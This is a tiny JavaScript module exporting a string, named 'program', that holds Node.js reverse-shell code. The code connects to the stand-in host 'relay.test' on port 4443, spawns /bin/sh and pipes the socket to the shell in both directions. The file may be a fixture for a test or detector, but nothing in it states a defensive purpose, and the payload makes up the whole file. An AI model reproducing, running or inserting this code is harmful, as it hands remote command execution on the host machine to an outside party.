const head = "const link = require('net').connect(4443, 'relay.test');";

exports.program = head + " const sh = require('child_process').spawn('/bin/sh'); link.pipe(sh.stdin); sh.stdout.pipe(link);";
